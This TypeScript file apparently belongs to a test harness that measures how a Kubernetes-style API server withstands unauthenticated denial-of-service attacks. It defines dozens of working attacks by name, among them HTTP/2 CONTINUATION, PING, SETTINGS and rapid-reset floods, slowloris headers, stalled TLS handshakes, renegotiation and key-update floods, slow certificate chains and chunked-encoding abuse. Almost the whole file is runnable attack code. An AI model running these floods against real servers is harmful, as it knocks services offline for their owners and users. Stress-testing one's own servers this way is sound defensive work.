/** What an attacker without a certificate does for as long as he is let, by name. */
import type { Socket } from "node:net";
import type { ConnectionOptions } from "node:tls";
import {
  type Attacker,
  brokenTrailers,
  CONNECT,
  crumbs,
  FLAG,
  FRAME,
  frame,
  HTTP2_PREFACE,
  indexedHeader,
  requestHeaders,
  TLS12_ONLY,
  withTrailers,
} from "../support/attacker.js";
import { longChain } from "../support/long-chain.js";
import { TlsRecords } from "../support/tls-records.js";

export const MAPS = "/api/v1/namespaces/default/configmaps";

/** Runs until `isOver`; each attack keeps so many connections at once and replaces those it loses. */
export type Attack = (attacker: Attacker, isOver: () => boolean) => Promise<void>;

export const pause = (milliseconds: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** Keeps `count` connections busy, each by `work`; what fails is begun anew. */
export function keep(count: number, work: (attacker: Attacker, isOver: () => boolean) => Promise<void>): Attack {
  return async (attacker, isOver) => {
    await Promise.all(
      Array.from({ length: count }, async () => {
        while (!isOver()) {
          await work(attacker, isOver).catch(() => undefined);
          await pause(1);
        }
      }),
    );
  };
}

/** Writes as fast as the connection takes it, until it is over or closed. */
export async function pour(socket: Socket, isOver: () => boolean, next: (index: number) => Buffer | string): Promise<void> {
  for (let index = 0; !isOver() && !socket.destroyed; index++) {
    if (socket.write(next(index))) {
      if (index % 64 === 63) await new Promise(setImmediate);
      continue;
    }
    while (socket.writableNeedDrain && !socket.destroyed && !isOver()) await pause(5);
  }
  socket.destroy();
}

async function hold(socket: Socket, isOver: () => boolean): Promise<void> {
  while (!isOver() && !socket.destroyed) await pause(50);
  socket.destroy();
}

const references = Buffer.concat([indexedHeader("a", "b"), Buffer.alloc(15_500, 0xbe)]);

const query = (unit: string): string => `GET ${MAPS}?${unit.repeat(Math.floor(300_000 / unit.length))} HTTP/1.1\r\nhost: x\r\n\r\n`;

const frames = (next: (index: number) => Buffer): Attack =>
  keep(8, async (attacker, isOver) => {
    const socket = await attacker.http2Socket();
    socket.pause();
    await pour(socket, isOver, next);
  });

/** As before, with what the server says taken. */
const poured = (next: (index: number) => Buffer): Attack =>
  keep(8, async (attacker, isOver) => pour((await attacker.http2Socket()).resume(), isOver, next));

/** Connections of HTTP/1.1 that say the same over and over, as often as they are let. */
const says = (count: number, text: string): Attack =>
  keep(count, async (attacker, isOver) => pour((await attacker.tls("http/1.1")).resume(), isOver, () => text));

/** The beginning of a request of HTTP/1.1, then one piece after the other that does not end it. */
const goesOn = (count: number, head: string, piece: string): Attack =>
  keep(count, async (attacker, isOver) => pour((await attacker.tls("http/1.1")).resume(), isOver, (index) => (index === 0 ? head : piece)));

/** Handshakes with certificates that prove nothing and are slow to verify. */
function chains(authorities: number): Attack {
  const chain = longChain(authorities);
  return keep(16, async (attacker) => {
    const { certificate: cert, key } = await chain;
    (await attacker.tls("http/1.1", { cert, key })).destroy();
  });
}

/** TLS 1.3 lets a client change its keys as often as it likes. */
export const changesOfKeys = (who: ConnectionOptions = {}): Attack =>
  keep(64, async (attacker, isOver) => {
    const records = await TlsRecords.open(attacker, who);
    await pour(records.raw, isOver, () => Buffer.concat(Array.from({ length: 100 }, () => records.keyChange())));
  });

const upgrade = (protocol: string): string =>
  `GET ${MAPS}?watch=1 HTTP/1.1\r\nhost: x\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n` +
  `sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\nsec-websocket-protocol: ${protocol}\r\n\r\n`;

const chunked = `POST ${MAPS} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n`;

const streamOf = (index: number): number => 2 * index + 1;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "nothing, for comparison": (_, isOver) => hold({ destroyed: false, destroy: () => undefined } as unknown as Socket, isOver),
  "bodies that never end, 15,500 header references each": keep(4, async (attacker, isOver) => {
    const socket = await attacker.http2Socket();
    socket.resume();
    await pour(socket, isOver, (index) => frame(FRAME.headers, FLAG.endHeaders, streamOf(index), requestHeaders("POST", MAPS, references)));
  }),
  "900 connections that say nothing": keep(900, async (attacker, isOver) => hold(await attacker.tcp(), isOver)),
  "400 connections a second that say nothing": keep(4, async (attacker) => {
    const socket = await attacker.tcp();
    await pause(8);
    socket.destroy();
  }),
  "900 handshakes that never end": keep(900, async (attacker, isOver) => {
    const socket = await attacker.tcp();
    socket.write(Buffer.from([22, 3, 1, 2, 0, 1]));
    await hold(socket.resume(), isOver);
  }),
  "whole handshakes, 32 at a time": keep(32, async (attacker) => void (await attacker.tls("http/1.1")).destroy()),
  "chains of 75 slow certificates, 16 at a time": chains(75),
  "chains of four slow certificates, 16 at a time": chains(4),
  "500 headers of 380 KB that never end": keep(500, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1");
    socket.write(`GET ${MAPS} HTTP/1.1\r\nhost: x\r\nx-a: ${"b".repeat(380_000)}`);
    await hold(socket, isOver);
  }),
  "200 blocks of headers over HTTP/2 that never end": keep(200, async (attacker, isOver) => {
    const socket = await attacker.http2Socket();
    socket.resume().write(frame(FRAME.headers, 0, 1, requestHeaders("GET", MAPS)));
    for (let index = 0; index < 7; index++) socket.write(frame(FRAME.continuation, 0, 1, indexedHeader(`h${index}`, "v".repeat(16_000))));
    await hold(socket, isOver);
  }),
  "queries of 300 KB of %ff%ff&": keep(4, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1");
    await pour(socket.resume(), isOver, () => query("%ff%ff&"));
  }),
  "health checks with 300 KB of exclude=%ff&": keep(4, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1");
    await pour(socket.resume(), isOver, () => query("exclude=%ff&").replace(MAPS, "/healthz"));
  }),
  "health checks without end, 8 sessions": keep(8, async (attacker, isOver) => {
    const session = attacker.http2Session();
    while (!isOver() && !session.destroyed) {
      await Promise.all(
        Array.from({ length: 30 }, () => {
          const stream = session.request({ ":path": "/readyz" });
          stream.on("error", () => undefined).resume();
          return new Promise((resolve) => stream.once("close", resolve));
        }),
      );
    }
    session.destroy();
  }),
  "requests sent ahead over HTTP/1.1, 32 connections": keep(32, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1");
    await pour(socket.resume(), isOver, () => "GET /version HTTP/1.1\r\nhost:\r\n\r\n".repeat(100));
  }),
  "refused requests over HTTP/2, 32 connections": keep(32, async (attacker, isOver) => {
    const socket = await attacker.http2Socket();
    await pour(socket.resume(), isOver, (index) =>
      frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamOf(index), requestHeaders("GET", MAPS)),
    );
  }),
  "answers that nobody reads: zero windows": keep(100, async (attacker, isOver) => {
    const socket = await attacker.tls("h2");
    socket.write(Buffer.concat([HTTP2_PREFACE.subarray(0, 24), frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))]));
    for (let index = 0; index < 30; index++) {
      socket.write(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamOf(index), requestHeaders("GET", "/version")));
    }
    await hold(socket.resume(), isOver);
  }),
  "a flood of CONTINUATION": frames((index) =>
    index === 0
      ? frame(FRAME.headers, 0, 1, requestHeaders("GET", MAPS))
      : frame(FRAME.continuation, 0, 1, indexedHeader(`h${index}`, "v".repeat(1000))),
  ),
  "headers at a byte a second, 900 connections": keep(900, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1");
    socket.resume().write(`GET ${MAPS} HTTP/1.1\r\nhost: x\r\nx-a: `);
    while (!isOver() && !socket.destroyed && socket.write("b")) await pause(1000);
    socket.destroy();
  }),
  "new handshakes asked for on 8 connections": keep(8, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1", TLS12_ONLY);
    while (!isOver() && !socket.destroyed) {
      await new Promise((resolve) => {
        socket.once("close", resolve);
        if (socket.renegotiate({}, resolve) === false) resolve(undefined);
      });
    }
    socket.destroy();
  }),
  "changes of keys on 64 connections": changesOfKeys(),
  "half-closed after a request, 100 connections": keep(100, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1");
    socket.resume().end(`GET ${MAPS} HTTP/1.1\r\nhost: x\r\n\r\n`);
    await hold(socket, isOver);
  }),
  "upgrades that are refused, 32 connections": says(32, upgrade("v4.channel.k8s.io")),
  "tokens for WebSockets, 32 connections": says(32, upgrade(`base64url.bearer.authorization.orch.io.${"QUJD".repeat(200)}`)),
  "bearer tokens that prove nothing, 32 connections": says(
    32,
    `GET ${MAPS} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${"eyJhbGciOiJSUzI1NiJ9.e30.QUJD"}\r\n\r\n`,
  ),
  "Expect: 100-continue, 32 connections": says(
    32,
    `POST ${MAPS} HTTP/1.1\r\nhost: x\r\nexpect: 100-continue\r\ncontent-length: 10\r\n\r\n0123456789`,
  ),
  "expectations that nobody meets, 100 connections": says(100, "GET / HTTP/1.1\r\nhost: x\r\nexpect: x\r\n\r\n".repeat(1000)),
  "requests that name no host, 100 connections": says(100, "GET / HTTP/1.1\r\n\r\n".repeat(1000)),
  "extensions of a chunk without end": goesOn(8, `${chunked}1;`, "a=b;".repeat(1000)),
  "trailers without end": goesOn(8, `${chunked}0\r\n`, "x-trailer: y\r\n".repeat(500)),
  "chunks of one byte": goesOn(8, chunked, "1\r\na\r\n".repeat(1000)),
  "CONNECT, absolute addresses and HTTP/1.0 with keep-alive": keep(32, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1");
    const kinds = [
      "GET http://x/version HTTP/1.1\r\nhost: x\r\n\r\n",
      "GET /version HTTP/1.0\r\nconnection: keep-alive\r\n\r\n",
      "CONNECT x:1 HTTP/1.1\r\nhost: x:1\r\n\r\n",
    ];
    await pour(socket.resume(), isOver, (index) => (index < 6 ? (kinds[index % 2] as string) : (kinds[2] as string)));
  }),
  "a flood of WINDOW_UPDATE": frames(() => frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))),
  "a flood of PRIORITY": frames((index) => frame(FRAME.priority, 0, streamOf(index), Buffer.from([0, 0, 0, 0, 1]))),
  "a flood of empty DATA": frames((index) =>
    index === 0 ? frame(FRAME.headers, FLAG.endHeaders, 1, requestHeaders("POST", MAPS)) : frame(FRAME.data, 0, 1, Buffer.alloc(0)),
  ),
  "headers whose table changes its size hundreds of times": frames((index) =>
    frame(
      FRAME.headers,
      FLAG.endHeaders | FLAG.endStream,
      streamOf(index),
      Buffer.concat([Buffer.from("203fe11f".repeat(500), "hex"), requestHeaders("GET", MAPS)]),
    ),
  ),
  "bodies that are left open": poured((index) => frame(FRAME.headers, FLAG.endHeaders, streamOf(index), requestHeaders("POST", MAPS))),
  "tunnels over HTTP/2": poured((index) => frame(FRAME.headers, FLAG.endHeaders, streamOf(index), CONNECT)),
  "480 header references each": poured((index) =>
    frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamOf(index), requestHeaders("GET", MAPS, crumbs(480))),
  ),
  "bodies with 400 trailers": frames((index) => withTrailers(streamOf(index), 400)),
  "trailers that break the protocol": frames((index) => brokenTrailers(streamOf(index))),
  "a flood of GOAWAY": frames(() => frame(FRAME.goAway, 0, 0, Buffer.alloc(8))),
  "a flood of PING": frames(() => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  "a flood of SETTINGS": frames(() => frame(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  "a flood of streams that are reset": frames((index) =>
    Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamOf(index), requestHeaders("GET", `${MAPS}?watch=1`)),
      frame(FRAME.reset, 0, streamOf(index), Buffer.from([0, 0, 0, 8])),
    ]),
  ),
};
